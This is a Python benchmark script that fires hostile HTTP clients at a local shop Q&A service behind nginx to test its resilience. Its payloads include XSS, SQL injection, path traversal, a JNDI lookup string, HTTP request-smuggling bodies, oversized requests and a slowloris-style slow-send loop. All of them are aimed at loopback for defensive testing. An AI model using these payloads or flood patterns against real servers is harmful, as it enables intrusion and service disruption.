"""Hostile clients, as a program: `python -m bench.hostile PORT SECONDS`.

Every kind has an address of its own on the loopback interface, so that nginx tells them apart, and
goes on until the time is over. Prints the statuses that each kind got, as JSON; 0 is no answer.
"""

import asyncio
import json
import random
import socket
import sys
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress

_FIRST_ADDRESS = 64  # 127.0.0.64 and so on
_CLIENTS = 4  # of each kind
_PAUSE_SECONDS = 0.02  # of one client, between two requests
_ANSWER_SECONDS = 20
_RECEIVED = 4096  # bytes: the status is in the first
_WORDS = (
    "<script>alert(1)</script>",
    "'; DROP TABLE questions; --",
    "\u202eevil",
    "\0",
    "\ud800",
    "\U000e0001",
    "A" * 2000,
    "../../etc/passwd",
    "${jndi:ldap://a.example}",
    "{{7*7}}",
)


def _request(method: str, target: str, body: bytes = b"", *fields: str) -> bytes:
    lines = [f"{method} {target} HTTP/1.1", "Host: shop", "Connection: close", *fields]
    if body and not any(field.lower().startswith("content-") for field in fields):
        lines += ["Content-Type: application/json", f"Content-Length: {len(body)}"]
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + body


def _malformed(chance: random.Random) -> bytes:
    """Return what is no HTTP, or tries to smuggle a second request."""
    smuggled = b"0\r\n\r\nGET /metrics HTTP/1.1\r\nHost: shop\r\n\r\n"
    return chance.choice(
        [
            chance.randbytes(200) + b"\r\n\r\n",
            b"get / http/9\r\n\r\n",
            b"GET / HTTP/1.1\r\nHost : a\r\nHost: b\r\n\r\n",
            _request(
                "POST", "/qa/questions", smuggled, "Transfer-Encoding: chunked", "Content-Length: 4"
            ),
            _request("POST", "/qa/questions", smuggled, "Transfer-Encoding: x, chunked"),
            _request("POST", "/qa/questions", b"{}", "Content-Length: -1"),
            _request(
                "POST", "/qa/questions", b"ffffffffffffffff\r\n", "Transfer-Encoding: chunked"
            ),
        ]
    )


def _oversized(chance: random.Random) -> bytes:
    return chance.choice(
        [
            _request("GET", "/qa/questions?product_id=1", b"", "X-Large: " + "x" * 100_000),
            _request("GET", "/qa/questions?product_id=" + "1" * 50_000),
            _request("POST", "/qa/questions", b'{"body":"' + b"x" * 200_000 + b'"}'),
            _request("POST", "/qa/questions", b"[" * 50_000),
            _request("POST", "/qa/questions", b"", "Content-Length: 100000000"),
        ]
    )


def _texts(chance: random.Random) -> bytes:
    """Return a post whose fields hold what has broken other services."""
    fields = {name: chance.choice(_WORDS) for name in ("body", "name", "email")}
    body = json.dumps({**fields, "product_id": chance.choice([1, "1", -1, 1e400, [], "\u0661"])})
    return _request("POST", "/qa/questions", body.encode(errors="surrogatepass"))


def _paths(chance: random.Random) -> bytes:
    return _request(
        chance.choice(["GET", "PUT", "DELETE", "PATCH", "TRACE", "FOO"]),
        chance.choice(
            [
                "/qa/questions?product_id=1%00",
                "/qa/questions?product_id=1&count=10000000000&page=99999999999999999999",
                "/qa/questions/../../etc/passwd",
                "/qa/questions/%2e%2e/metrics",
                "/qa/questions/1'%20OR%201=1/answers",
                "/metrics",
                "/.error/busy",
                "//qa/questions?product_id=1;SELECT%20pg_sleep(10)",
            ]
        ),
    )


def _flood(chance: random.Random) -> bytes:
    """Return a vote: one address sends far more of them than its share."""
    return _request("PUT", f"/qa/questions/{chance.randint(1, 1000)}/helpful")


_KINDS: dict[str, Callable[[random.Random], bytes]] = {
    "malformed": _malformed,
    "oversized": _oversized,
    "texts": _texts,
    "paths": _paths,
    "flood of votes": _flood,
}


async def _connected(port: int, address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))


async def _status(port: int, address: str, request: bytes) -> int:
    """Send a request and return the status of its answer, 0 if there is none."""
    reader, writer = await _connected(port, address)
    try:
        writer.write(request)
        async with asyncio.timeout(_ANSWER_SECONDS):
            line = await reader.read(_RECEIVED)
        return int(line.split(b" ", 2)[1]) if line.startswith(b"HTTP/") else 0
    finally:
        writer.transport.abort()  # whatever else comes


async def _attack(port: int, kind: str, address: str, seen: Counter[int]) -> None:
    chance = random.Random(f"{kind} {address}")  # noqa: S311 - repeatable, not secret
    while True:
        status = 0
        with suppress(OSError, TimeoutError, EOFError):
            status = await _status(port, address, _KINDS[kind](chance))
        seen[status] += 1
        await asyncio.sleep(_PAUSE_SECONDS)


async def _hold(port: int, address: str, seen: Counter[int]) -> None:
    """Hold a connection with an unfinished request, a byte a second; again when it is closed."""
    data = (
        b"POST /qa/questions HTTP/1.1\r\nHost: shop\r\nContent-Length: 60000\r\n\r\n" + b" " * 600
    )
    while True:
        with suppress(OSError):
            _, writer = await _connected(port, address)
            for byte in data:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
        seen[0] += 1


async def _leave(port: int, address: str, seen: Counter[int]) -> None:
    """Ask for large pages, and reset the connection before the answer is read."""
    while True:
        with suppress(OSError):
            _, writer = await _connected(port, address)
            writer.write(_request("GET", "/qa/questions?product_id=1&count=100000"))
            raw = writer.get_extra_info("socket")
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            writer.transport.abort()
        seen[0] += 1
        await asyncio.sleep(_PAUSE_SECONDS)


def _addresses() -> Iterator[str]:
    number = _FIRST_ADDRESS
    while True:
        yield f"127.0.0.{number}"
        number += 1


async def attack(port: int, seconds: float) -> dict[str, dict[int, int]]:
    """Run all kinds for a time; return how often each got which status."""
    addresses = _addresses()
    seen: dict[str, Counter[int]] = {}
    tasks = []
    for kind in (*_KINDS, "held", "left"):
        found, address = seen.setdefault(kind, Counter()), next(addresses)
        for _ in range(_CLIENTS):
            if kind in _KINDS:
                work = _attack(port, kind, address, found)
            else:
                work = (_hold if kind == "held" else _leave)(port, address, found)
            tasks.append(asyncio.create_task(work))
    await asyncio.wait(tasks, timeout=seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return {kind: dict(found) for kind, found in seen.items()}


if __name__ == "__main__":
    print(json.dumps(asyncio.run(attack(int(sys.argv[1]), float(sys.argv[2])))))  # noqa: T201 - its result
